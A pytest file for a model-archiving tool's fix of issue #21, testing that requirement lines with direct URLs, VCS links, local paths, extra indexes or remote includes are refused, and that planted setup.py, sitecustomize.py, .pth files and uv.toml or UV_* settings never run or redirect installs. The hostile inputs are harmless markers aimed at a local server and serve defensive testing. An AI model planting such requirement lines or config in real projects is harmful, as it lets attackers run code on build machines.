"""No code from an archive runs where archives are built, read or exported (issue #21).

Before: ``tsctl export kserve`` resolved an archive's requirements with uv, so a line
``evilpkg @ http://HOST/evilpkg-1.0.tar.gz`` was fetched and its setup.py run on the exporting
machine (then dropped from the lock without a word), a path line ran that directory's setup.py, a
``git+http://`` line was cloned, and a ``uv.toml`` in any parent of the temporary directory
redirected every export's index. Now each line must be a plain requirement (archiver/requirements.py),
refused in one line otherwise, at ``package`` and at ``export``; uv and pip run with their
configuration off, one explicit index, wheels only. Every test watches a local HTTP server that
would serve the attacker's files, and a marker file the attacker's code would write.
"""

import http.server
import subprocess
import sys
import threading
import zipfile
from pathlib import Path

import pytest

from archiver import kserve_images, properties, requirements
from archiver.errors import UserError
from archiver.export.kserve import export as kserve
from helpers.models import package_resnet

BIN = Path(sys.executable).parent


class Watched:
    """An HTTP server on 127.0.0.1 that answers 404 to everything and remembers every request."""

    def __init__(self):
        seen = self.seen = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                seen.append(self.path)
                self.send_error(404)

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def watched():
    server = Watched()
    yield server
    server.close()


def attacks(url: str, marker: Path, tmp: Path) -> dict:
    """Requirement lines that would fetch, clone or build something, by kind."""
    local = tmp / "localpkg"
    local.mkdir(exist_ok=True)
    (local / "setup.py").write_text(f"open({str(marker)!r}, 'w').write('setup.py ran')\n")
    return {
        "direct URL": f"evilpkg @ {url}/evilpkg-1.0.tar.gz",
        "bare URL": f"{url}/evilpkg-1.0.tar.gz",
        "VCS": f"git+{url}/evil.git#egg=evil",
        "local path": str(local),
        "relative path": "./localpkg",
        "editable": f"-e {local}",
        "index option": f"--extra-index-url {url}/simple",
        "requirements include": f"-r {url}/more.txt",
    }


def test_package_refuses_every_line_that_is_not_a_plain_requirement(image_sample, tmp_path, watched):
    marker = tmp_path / "marker"
    for kind, line in attacks(watched.url, marker, tmp_path).items():
        file = tmp_path / f"{kind.replace(' ', '-')}.txt"
        file.write_text(f"# fine\nPillow>=10\n{line}\n")
        store = tmp_path / "store"
        with pytest.raises(UserError) as refused:
            package_resnet(image_sample, store, requirements_file=str(file))
        message = str(refused.value)
        assert "\n" not in message and f"{file.name}, line 3" in message, (kind, message)
        assert not (store / "resnet18.mar").exists(), kind
    assert watched.seen == [] and not marker.exists()


def test_plain_requirements_still_package(image_sample, tmp_path):
    file = tmp_path / "requirements.txt"
    file.write_text('numpy>=1.24,<3  # comment\nsix==1.16.0 --hash=sha256:00\nrich[jupyter]; python_version>"3.8"\n')
    archive = package_resnet(image_sample, tmp_path / "store", requirements_file=str(file))
    with zipfile.ZipFile(archive) as zf:
        assert "six==1.16.0 --hash=sha256:00" in zf.read("requirements.txt").decode()


def archived_elsewhere(tmp: Path, requirement_text: str, marker: Path) -> Path:
    """An archive torch-model-archiver made (no tsctl check at packaging), with a handler, a model
    file and extra files that would write ``marker`` if anything imported or ran them."""
    store = tmp / "model-store"
    store.mkdir(parents=True, exist_ok=True)
    mark = f"open({str(marker)!r}, 'a').write(__name__ + '\\n')\n"
    (tmp / "evil_handler.py").write_text(mark + "def handle(data, context):\n    return data\n")
    (tmp / "model.py").write_text(mark)
    (tmp / "sitecustomize.py").write_text(mark)
    (tmp / "evil.pth").write_text(f"import os; {mark}")
    (tmp / "setup.py").write_text(mark)
    (tmp / "requirements.txt").write_text(requirement_text)
    (tmp / "weights.pt").write_bytes(b"not a model")
    extra = ",".join(str(tmp / n) for n in ("sitecustomize.py", "evil.pth", "setup.py"))
    command = [
        str(BIN / "torch-model-archiver"),
        "--model-name",
        "evil",
        "--version",
        "1.0",
        "--handler",
        str(tmp / "evil_handler.py"),
        "--model-file",
        str(tmp / "model.py"),
        "--serialized-file",
        str(tmp / "weights.pt"),
        "--extra-files",
        extra,
        "--requirements-file",
        str(tmp / "requirements.txt"),
        "--export-path",
        str(store),
    ]
    subprocess.run(command, check=True, capture_output=True)
    return store / "evil.mar"


def tsctl(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run([str(BIN / "tsctl"), *args], cwd=cwd, capture_output=True, text=True, timeout=300)


def test_inspect_config_and_export_run_nothing_from_an_archive(tmp_path, watched):
    """Whole processes, as a user runs them: the archive's handler, model file, sitecustomize.py,
    .pth and setup.py never run, and export refuses its URL requirement in one line, exit 2,
    without fetching it."""
    marker = tmp_path / "marker"
    archive = archived_elsewhere(tmp_path, f"six\nevilpkg @ {watched.url}/evilpkg-1.0.tar.gz\n", marker)
    inspected = tsctl("inspect", str(archive), cwd=tmp_path)
    assert inspected.returncode == 0, inspected.stderr
    configured = tsctl("config", cwd=tmp_path)
    assert configured.returncode == 0, configured.stderr
    exported = tsctl(
        "export", "kserve", str(tmp_path / "out"), "--name", "evil", "--storage-uri", "pvc://models/evil", cwd=tmp_path
    )
    assert exported.returncode == 2, exported.stdout + exported.stderr
    assert "evil.mar's requirements.txt, line 2" in exported.stderr and "Traceback" not in exported.stderr
    errors = [line for line in exported.stderr.splitlines() if line.startswith("error:")]
    assert len(errors) == 1 and "line 2" in errors[0], exported.stderr  # one line (after the progress line)
    assert not (tmp_path / "out").exists()
    assert watched.seen == [] and not marker.exists(), marker.read_text() if marker.exists() else watched.seen


def test_a_planted_uv_config_or_uv_environment_cannot_redirect_the_index(tmp_path, watched, monkeypatch):
    """uv read a uv.toml from any parent of the temporary directory, and UV_* variables; both are
    ignored: the lock comes from the one index tsctl names."""
    planted = tmp_path / "shared"
    (planted / "tmp").mkdir(parents=True)
    (planted / "uv.toml").write_text(f'index-url = "{watched.url}/simple"\n[pip]\nindex-url = "{watched.url}/simple"\n')
    monkeypatch.setenv("TMPDIR", str(planted / "tmp"))
    monkeypatch.setenv("UV_INDEX_URL", f"{watched.url}/simple")
    monkeypatch.setenv("UV_EXTRA_INDEX_URL", f"{watched.url}/extra")
    monkeypatch.setenv("PIP_INDEX_URL", f"{watched.url}/simple")
    locked = kserve_images.lock("six\n", kserve_images.RUNTIMES[kserve_images.DEFAULT], "m.mar's requirements.txt")
    assert any(line.startswith("six==") for line in locked.lines), locked.lines
    assert watched.seen == []


def test_tsctl_index_url_is_the_one_index(tmp_path, watched, monkeypatch):
    monkeypatch.setenv("TSCTL_INDEX_URL", f"{watched.url}/simple")
    with pytest.raises(UserError, match="cannot be installed"):
        kserve_images.lock("six\n", kserve_images.RUNTIMES[kserve_images.DEFAULT], "m.mar's requirements.txt")
    assert any(path.startswith("/simple/six") for path in watched.seen), watched.seen
    assert requirements.index_url() == f"{watched.url}/simple"


def test_a_requirements_file_the_manifest_names_but_the_archive_lacks_is_one_line(image_sample, tmp_path):
    file = tmp_path / "requirements.txt"
    file.write_text("six\n")
    root = tmp_path / "project"
    archive = package_resnet(image_sample, root / "model-store", requirements_file=str(file))
    with zipfile.ZipFile(archive) as source, zipfile.ZipFile(tmp_path / "cut.mar", "w") as cut:
        for item in source.infolist():
            if item.filename != "requirements.txt":
                cut.writestr(item, source.read(item))
    (tmp_path / "cut.mar").replace(archive)
    properties.write_config(root / "model-store", root / "config" / "config.properties")
    with pytest.raises(UserError, match="names requirementsFile 'requirements.txt', which the archive does not hold"):
        kserve.export(
            kserve.ExportOptions(
                out=str(root / "out"),
                name="demo",
                storage_uri="pvc://models/demo",
                config=str(root / "config" / "config.properties"),
                model_store=str(root / "model-store"),
            )
        )
    assert not (root / "out").exists()


def test_the_requirement_check_reads_lines_as_packaging_does():
    assert requirements.check("A>=1\n\n# c\nb[x]==2 ; python_version<'4'\n", "f") == [
        "A>=1",
        "b[x]==2 ; python_version<'4'",
    ]
    assert requirements.requirement_name("Transformers_X>=4") == "transformers-x"
